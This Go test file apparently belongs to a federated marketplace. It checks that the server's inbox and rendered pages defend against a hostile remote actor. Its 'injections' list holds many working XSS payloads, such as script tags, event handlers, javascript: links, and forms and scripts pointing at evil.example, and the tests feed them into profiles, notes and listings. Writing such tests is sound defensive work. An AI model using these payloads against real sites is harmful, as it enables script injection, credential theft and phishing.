package web_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"souk"
	"souk/federation"
)

type object = map[string]any

// villain is a server of somebody else with one actor, "eve", who signs well and means ill.
type villain struct {
	*httptest.Server
	s   *street
	key *rsa.PrivateKey
	id  string // of eve
	n   int

	mu    sync.Mutex
	actor object
}

func (s *street) villain() *villain {
	s.t.Helper()
	v := &villain{s: s, key: must(rsa.GenerateKey(rand.Reader, 2048))(s.t)}
	v.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/users/eve" {
			http.NotFound(w, r)
			return
		}
		v.mu.Lock()
		defer v.mu.Unlock()
		w.Header().Set("Content-Type", "application/activity+json")
		_ = json.NewEncoder(w).Encode(v.actor)
	}))
	s.t.Cleanup(v.Close)
	v.id = v.URL + "/users/eve"
	der := must(x509.MarshalPKIXPublicKey(&v.key.PublicKey))(s.t)
	v.actor = object{"id": v.id, "type": "Person", "preferredUsername": "eve", "name": "Eve", "inbox": v.id + "/inbox", "outbox": v.id + "/outbox",
		"followers": v.id + "/followers", "discoverable": true, "indexable": true,
		"publicKey": object{"id": v.id + "#main-key", "owner": v.id, "publicKeyPem": string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))}}
	return v
}

func (v *villain) note(path, content string) object {
	return object{"id": v.URL + path, "type": "Note", "attributedTo": v.id, "content": content, "published": v.s.clock().Format(time.RFC3339),
		"to": []string{"https://www.w3.org/ns/activitystreams#Public"}, "cc": []string{v.id + "/followers"}}
}

func (v *villain) activity(kind string, what any) object {
	v.n++
	return object{"@context": "https://www.w3.org/ns/activitystreams", "id": fmt.Sprintf("%s/activities/%d", v.URL, v.n), "type": kind, "actor": v.id, "object": what}
}

// request is a signed POST of the body to the shared inbox.
func (v *villain) request(body []byte) *http.Request {
	v.s.t.Helper()
	r := must(http.NewRequestWithContext(v.s.t.Context(), http.MethodPost, v.s.url+"/inbox", bytes.NewReader(body)))(v.s.t)
	r.Header.Set("Content-Type", "application/activity+json")
	if err := federation.SignCavage(r, body, v.id+"#main-key", v.key, v.s.clock()); err != nil {
		v.s.t.Fatal(err)
	}
	return r
}

// sends delivers what must be accepted, and applies it.
func (v *villain) sends(kind string, what any) {
	v.s.t.Helper()
	a := v.activity(kind, what)
	if got := v.s.do(v.request(must(json.Marshal(a))(v.s.t))); got.StatusCode != http.StatusAccepted {
		v.s.t.Fatalf("%s: %d %s", kind, got.StatusCode, got.body)
	}
	if err := v.s.fed.ApplyInbox(v.s.t.Context()); err != nil {
		v.s.t.Fatal(err)
	}
	var state, note string
	if err := v.s.Pool().QueryRow(v.s.t.Context(), `select case when q.id is null then i.state else 'queued' end, coalesce(q.note, i.note)
		from inbox i left join inbox_queue q on q.id = i.id where i.activity_id = $1`, a["id"]).Scan(&state, &note); err != nil || state != "done" {
		v.s.t.Fatalf("%s: %s %s %v", kind, state, note, err)
	}
}

// injections are what a stranger may write where text or HTML is shown (OWASP's sheet, CVE-2023-36459, CVE-2023-42452 and
// CVE-2023-36462 of Mastodon in kind: markup that runs, that hides, or that looks like the page).
var injections = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<a href="javascript:alert(1)">x</a>`, "<a href=\" java\tscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:x">x</a>`, `<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x.swf"></object>`, `<embed src=x>`,
	`<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">Pay</button></form>`,
	`<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href="https://evil.example/x.css">`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`</p></li></ul></article></main></body><h1>Free mugs</h1><main>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>alert(1)</script>`, `<title></title><script>alert(1)</script>`, `<template><img src=x onerror=alert(1)></template>`,
	`" onmouseover="alert(1)" x="`, `' onmouseover='alert(1)' x='`, "` onmouseover=`alert(1)`", `"><script>alert(1)</script>`, `<a class="button primary" id="content" name="location" target="_top" accesskey="x" tabindex="1">Buy</a>`,
	`<a href="https://evil.example"><span class="invisible">evil.</span>shop.example</a>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<isindex type=image src=1 onerror=alert(1)>`,
	"<scr\x00ipt>alert(1)</script>", "<img src=\"x\"\x0conerror=alert(1)>", `<x onclick=alert(1)>`, `{{.}}{{template "x"}}`, "</title><script>alert(1)</script>", "\u202ecod.exe", "a\u200b\u2066b\u2069",
}

// safe looks at a document as a browser does: nothing in it runs, loads, sends or covers what the page itself does not.
func safe(t *testing.T, where string, d *goquery.Document) {
	t.Helper()
	d.Find("*").Each(func(_ int, e *goquery.Selection) {
		node := e.Get(0)
		switch node.Data {
		case "iframe", "frame", "object", "embed", "applet", "base", "style", "math", "noscript", "template", "xmp", "plaintext", "marquee", "video", "audio":
			t.Errorf("%s: <%s>", where, node.Data)
		case "script":
			if e.AttrOr("type", "") != "application/ld+json" || !json.Valid([]byte(e.Text())) {
				t.Errorf("%s: a script: %.200s", where, e.Text())
			}
		case "meta":
			if _, there := e.Attr("http-equiv"); there {
				t.Errorf("%s: http-equiv", where)
			}
		case "link":
			if e.AttrOr("rel", "") == "stylesheet" && !strings.HasPrefix(e.AttrOr("href", ""), "/assets/") {
				t.Errorf("%s: a style sheet of %s", where, e.AttrOr("href", ""))
			}
		}
		for _, a := range node.Attr {
			name := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(name, "on"), name == "style", name == "srcdoc", name == "formaction":
				t.Errorf("%s: <%s %s=%q>", where, node.Data, a.Key, a.Val)
			case name == "action" && !strings.HasPrefix(a.Val, "/"):
				t.Errorf("%s: a form to %q", where, a.Val)
			case name == "src" && !strings.HasPrefix(a.Val, "/"):
				t.Errorf("%s: <%s> loads %q", where, node.Data, a.Val)
			case name == "href" || name == "xlink:href" || name == "cite" || name == "poster":
				u, err := url.Parse(strings.TrimSpace(a.Val))
				if err != nil || u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" {
					t.Errorf("%s: a link to %q", where, a.Val)
				}
			}
		}
	})
}

// shape counts what the words of strangers must not add to a page.
func shape(d *goquery.Document) string {
	var counts []string
	for _, selector := range []string{"main", "form", "button", "input", "header", "nav", "svg", "link", "title", "[id=content]", "[accesskey]", "[target]", ".button"} {
		counts = append(counts, fmt.Sprint(selector, " ", d.Find(selector).Length()))
	}
	return strings.Join(counts, ", ")
}

// Whatever a stranger writes into whatever field, the pages and the API show it as words.
func TestInjections(t *testing.T) {
	t.Parallel()
	s := annasShop(t, func(c *federation.Config) { c.RateLimit = -1 })
	ours := s.says(s.owner, souk.NewPost{Source: "The kiln is open"})
	v := s.villain()
	eve := must(s.fed.ResolveActor(t.Context(), v.id))(t)
	f := must(s.Follow(t.Context(), s.owner.ID, eve.ID))(t)
	v.sends("Accept", object{"type": "Follow", "id": f.URI, "actor": s.owner.URI, "object": v.id})
	shapes := map[string]string{}
	for i, text := range append([]string{"harmless <p>words</p>"}, injections...) {
		actor := object{}
		v.mu.Lock()
		for k, value := range v.actor {
			actor[k] = value
		}
		v.mu.Unlock()
		actor["name"], actor["summary"] = text, text
		actor["attachment"] = []object{{"type": "PropertyValue", "name": text, "value": text}}
		actor["url"] = text
		v.sends("Update", actor)
		reply := v.note("/notes/reply", text)
		reply["id"], reply["inReplyTo"] = fmt.Sprintf("%s/notes/%d", v.URL, i), ours.URI
		reply["summary"], reply["contentMap"] = text, object{text: text}
		reply["tag"] = []object{{"type": "Hashtag", "name": "#" + text, "href": text}, {"type": "Mention", "name": text, "href": text}, {"type": "Emoji", "name": text, "icon": object{"url": text}}}
		reply["attachment"] = []object{{"type": "Image", "mediaType": "image/png", "url": v.URL + "/x.png", "name": text, "summary": text, "blurhash": text},
			{"type": "Document", "mediaType": "text/html", "url": v.URL + "/" + url.PathEscape(text), "name": text}}
		v.sends("Create", reply)
		listing := v.note(fmt.Sprintf("/listings/%d", i), "<p><strong>Kettle</strong></p>"+text)
		listing["purpose"] = "offer"
		listing["publishes"] = object{"type": "Intent", "action": "transfer", "sdo:name": "Kettle " + text, "sdo:description": text, "sdo:sku": text, "sdo:category": text,
			"sdo:itemCondition": text, "sdo:availability": text, "resourceQuantity": object{"hasUnit": text, "hasNumericalValue": "1"}}
		listing["reciprocal"] = object{"type": "Intent", "action": "transfer", "sdo:priceCurrency": "EUR", "resourceQuantity": object{"hasUnit": "one", "hasNumericalValue": "24.00"}}
		listing["tag"], listing["attachment"] = reply["tag"], reply["attachment"]
		v.sends("Create", listing)
		s.index()
		s.pass(2 * time.Second)
		for _, path := range []string{strings.TrimPrefix(ours.URL, s.url), "/search?q=kettle&type=listing", "/search?q=" + url.QueryEscape(text), "/zh/search?q=kettle", "/"} {
			d := s.page(path, http.StatusOK)
			where := fmt.Sprintf("%s with %q", path, text)
			safe(t, where, d)
			if got := shape(d); i == 0 {
				shapes[path] = got
			} else if first, known := shapes[path]; known && got != first {
				t.Errorf("%s: %s; with harmless words %s", where, got, first)
			}
		}
		api := s.get("/api/souk/v1/search?q=kettle")
		var answer any
		if err := json.Unmarshal(api.body, &answer); err != nil || api.StatusCode != http.StatusOK {
			t.Fatalf("%d %v", api.StatusCode, err)
		}
		inHTML(answer, func(markup string) {
			safe(t, fmt.Sprintf("the API's %q", markup), must(goquery.NewDocumentFromReader(strings.NewReader(markup)))(t))
		})
		v.sends("Delete", object{"type": "Tombstone", "id": listing["id"]})
		v.sends("Delete", object{"type": "Tombstone", "id": reply["id"]})
	}
}

// inHTML calls f with each text of the answer that is named as HTML.
func inHTML(v any, f func(string)) {
	switch v := v.(type) {
	case map[string]any:
		for key, value := range v {
			if text, ok := value.(string); ok && (key == "highlight" || key == "html") {
				f(text)
			}
			inHTML(value, f)
		}
	case []any:
		for _, value := range v {
			inHTML(value, f)
		}
	}
}

// records keeps what a log says.
type records struct {
	mu    sync.Mutex
	lines []string
}

func (r *records) Enabled(context.Context, slog.Level) bool { return true }
func (r *records) WithAttrs([]slog.Attr) slog.Handler       { return r }
func (r *records) WithGroup(string) slog.Handler            { return r }
func (r *records) Handle(_ context.Context, record slog.Record) error {
	line := record.Message
	record.Attrs(func(a slog.Attr) bool { line += " " + a.String(); return true })
	r.mu.Lock()
	defer r.mu.Unlock()
	r.lines = append(r.lines, line)
	return nil
}

// Bad input at an inbox gets the status that says what is wrong, a short problem document, one line in the log with the
// host and the reason, and nothing is stored.
func TestInboxAnswers(t *testing.T) {
	t.Parallel()
	log := &records{}
	s := annasShop(t, func(c *federation.Config) {
		c.Log = slog.New(log)
		c.Budgets.Actor = federation.Budget{Burst: 2, Every: time.Hour}
	})
	v := s.villain()
	if err := s.BlockHost(t.Context(), s.owner.ID, "bad.example", souk.Suspend, ""); err != nil {
		t.Fatal(err)
	}
	body := func(change func(object)) []byte {
		a := v.activity("Create", v.note("/notes/1", "<p>Hello</p>"))
		change(a)
		return must(json.Marshal(a))(t)
	}
	well := func(object) {}
	rows := []struct {
		name   string
		status int
		logged string
		make   func() *http.Request
	}{
		{"accepted", 202, "", func() *http.Request { return v.request(body(well)) }},
		{"not signed", 401, "not signed", func() *http.Request {
			r := v.request(body(well))
			r.Header.Del("Signature")
			return r
		}},
		{"another body", 401, "digest", func() *http.Request {
			r := v.request(body(well))
			other := must(http.NewRequestWithContext(t.Context(), http.MethodPost, r.URL.String(), bytes.NewReader(body(well))))(t)
			other.Header = r.Header
			return other
		}},
		{"a blocked host", 403, "blocked", func() *http.Request {
			return v.request(body(func(a object) { a["id"], a["actor"] = "http://bad.example/1", "http://bad.example/users/x" }))
		}},
		{"an id of another origin", 403, "origin", func() *http.Request {
			return v.request(body(func(a object) { a["id"] = "http://other.example/1" }))
		}},
		{"not JSON", 400, "JSON", func() *http.Request { return v.request([]byte("actor=eve")) }},
		{"no actor", 400, "type, actor and a usable id", func() *http.Request { return v.request(body(func(a object) { delete(a, "actor") })) }},
		{"another media type", 415, "send application/activity+json", func() *http.Request {
			r := v.request(body(well))
			r.Header.Set("Content-Type", "text/html")
			return r
		}},
		{"too large", 413, "-", func() *http.Request { return v.request(bytes.Repeat([]byte(" "), federation.MaxActivity+1)) }},
		{"the second", 202, "", func() *http.Request { return v.request(body(well)) }},
		{"a flood", 429, "too many", func() *http.Request { return v.request(body(well)) }},
	}
	stored := 0
	for _, row := range rows {
		log.lines = nil
		got := s.do(row.make())
		if got.StatusCode != row.status {
			t.Errorf("%s: %d %s", row.name, got.StatusCode, got.body)
		}
		if row.status == 202 {
			stored++
		} else {
			var p struct {
				Status int    `json:"status"`
				Detail string `json:"detail"`
			}
			if err := json.Unmarshal(got.body, &p); err != nil || p.Status != row.status || p.Detail == "" || len(got.body) > 1000 || got.Header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s: %s %s", row.name, got.Header.Get("Content-Type"), got.body)
			}
			lines := strings.Join(log.lines, "\n")
			if row.logged != "-" && (len(log.lines) != 1 || !strings.Contains(lines, row.logged) || !strings.Contains(lines, "host=")) {
				t.Errorf("%s: logged %q", row.name, log.lines)
			}
		}
		if after := got.Header.Get("Retry-After"); (after != "") != (row.status == 429) {
			t.Errorf("%s: Retry-After %q", row.name, after)
		}
		var n int
		if err := s.Pool().QueryRow(t.Context(), `select count(*) from inbox`).Scan(&n); err != nil || n != stored {
			t.Fatalf("%s: %d stored, want %d, %v", row.name, n, stored, err)
		}
	}
}

// What does not verify is charged to the address that it came from, as the proxies that are trusted tell it.
func TestInboxKnowsWhoseAddress(t *testing.T) {
	t.Parallel()
	s := annasShop(t, func(c *federation.Config) { c.Budgets.Source = federation.Budget{Burst: 2, Every: time.Hour} })
	v := s.villain()
	n := 0
	rubbish := func(from string) int {
		n++
		body := must(json.Marshal(object{"@context": "https://www.w3.org/ns/activitystreams", "type": "Follow", "object": s.url,
			"id": fmt.Sprintf("%s/follows/%d", v.URL, n), "actor": fmt.Sprintf("%s/users/nobody%d", v.URL, n)}))(t)
		r := must(http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/inbox", bytes.NewReader(body)))(t)
		r.Header.Set("Content-Type", "application/activity+json")
		r.Header.Set("X-Forwarded-For", from)
		if err := federation.SignCavage(r, body, fmt.Sprintf("%s/users/nobody%d#main-key", v.URL, n), v.key, s.clock()); err != nil {
			t.Fatal(err)
		}
		return s.do(r).StatusCode
	}
	for i, want := range []int{http.StatusUnauthorized, http.StatusUnauthorized, http.StatusTooManyRequests} {
		if got := rubbish("198.51.100.7"); got != want {
			t.Errorf("request %d of one address: %d, want %d", i+1, got, want)
		}
	}
	if got := rubbish("192.0.2.1"); got != http.StatusUnauthorized {
		t.Errorf("another address: %d", got)
	}
}
